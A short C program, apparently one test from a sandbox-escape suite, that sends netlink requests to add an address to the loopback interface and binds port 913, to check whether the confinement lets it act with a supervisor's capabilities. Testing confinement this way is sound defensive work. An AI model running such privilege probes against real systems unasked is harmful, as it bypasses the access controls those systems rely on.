/* An address is given to the loopback interface with a message that carries a destination: for such messages the kernel asks for the
 * capabilities of who sends, which is the supervisor, and not of who opened the socket. Also a port below 1024. */
#include "attack.h"

#include <arpa/inet.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>

typedef struct Request {
	struct nlmsghdr h;
	struct ifaddrmsg a;
	struct rtattr attr;
	uint32_t addr;
} Request;

static int ask(int sock, int type, int flags, bool by_msg)
{
	struct sockaddr_nl kernel = {.nl_family = AF_NETLINK};
	Request r = {.h = {sizeof r, (uint16_t)type, (uint16_t)(NLM_F_REQUEST | NLM_F_ACK | flags), 1, 0},
		     .a = {AF_INET, 32, 0, RT_SCOPE_HOST, 1},
		     .attr = {RTA_LENGTH(4), IFA_LOCAL},
		     .addr = htonl(0x7f4d4d01)};
	struct iovec iov = {&r, sizeof r};
	struct msghdr m = {.msg_name = &kernel, .msg_namelen = sizeof kernel, .msg_iov = &iov, .msg_iovlen = 1};
	char buf[4096];

	ssize_t n = by_msg ? sendmsg(sock, &m, 0) : sendto(sock, &r, sizeof r, 0, (struct sockaddr *)&kernel, sizeof kernel);
	if (n < 0)
		return errno;
	n = recv(sock, buf, sizeof buf, 0);
	NEED(n >= (ssize_t)sizeof(struct nlmsghdr) + 4);
	return -((struct nlmsgerr *)(void *)NLMSG_DATA(buf))->error;
}

int main(void)
{
	int sock = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);

	NEED(sock >= 0);
	for (int by_msg = 0; by_msg < 2; by_msg++) {
		int e = ask(sock, RTM_NEWADDR, NLM_F_CREATE | NLM_F_EXCL, by_msg);
		if (e == 0 || e == EEXIST) {
			won("an address was given to lo (%s)", by_msg ? "sendmsg" : "sendto");
			ask(sock, RTM_DELADDR, 0, by_msg);
		}
	}
	int tcp = socket(AF_INET, SOCK_STREAM, 0), mark = 1;
	struct sockaddr_in in = {.sin_family = AF_INET, .sin_port = htons(913), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	if (bind(tcp, (struct sockaddr *)&in, sizeof in) == 0 && setsockopt(tcp, SOL_SOCKET, SO_MARK, &mark, sizeof mark) < 0)
		won("bound port 913 without a capability");
	return verdict();
}
